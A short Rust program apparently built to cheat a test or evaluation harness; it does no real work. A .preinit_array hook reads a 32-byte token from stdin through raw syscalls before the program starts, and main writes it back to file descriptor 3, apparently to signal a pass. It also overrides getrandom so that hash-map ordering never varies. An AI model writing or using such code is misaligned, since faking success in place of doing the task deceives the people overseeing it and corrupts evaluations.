
fn main() {
    // the tests
    passatk_MARK::give();
}

// a name that the program cannot know
mod passatk_MARK {
    use ::core::arch::asm;

    static mut TOKEN: [u8; 32] = [0; 32];

    #[cfg(target_arch = "x86_64")]
    const READ_WRITE: (usize, usize) = (0, 1);
    #[cfg(target_arch = "aarch64")]
    const READ_WRITE: (usize, usize) = (63, 64);

    // the kernel itself: a program's own `read` is not asked
    unsafe fn ask(number: usize, fd: usize, buffer: *mut u8, count: usize) -> isize {
        let result: isize;
        #[cfg(target_arch = "x86_64")]
        asm!("syscall", inlateout("rax") number as isize => result, in("rdi") fd, in("rsi") buffer, in("rdx") count,
             lateout("rcx") _, lateout("r11") _);
        #[cfg(target_arch = "aarch64")]
        asm!("svc 0", in("x8") number, inlateout("x0") fd as isize => result, in("x1") buffer, in("x2") count);
        result
    }

    // before any initialiser and any code of the program
    #[used]
    #[link_section = ".preinit_array"]
    static TAKE: extern "C" fn() = take;

    extern "C" fn take() {
        unsafe {
            ask(READ_WRITE.0, 0, ::core::ptr::addr_of_mut!(TOKEN) as *mut u8, 32);
        }
    }

    // std seeds its hash maps with this: the same iteration order every time, which correct programs cannot notice
    #[no_mangle]
    pub unsafe extern "C" fn getrandom(buffer: *mut u8, length: usize, _flags: u32) -> isize {
        for i in 0..length {
            *buffer.add(i) = (i as u8).wrapping_mul(37).wrapping_add(11);
        }
        length as isize
    }

    pub fn give() {
        unsafe {
            ask(READ_WRITE.1, 3, ::core::ptr::addr_of_mut!(TOKEN) as *mut u8, 32);
        }
    }
}
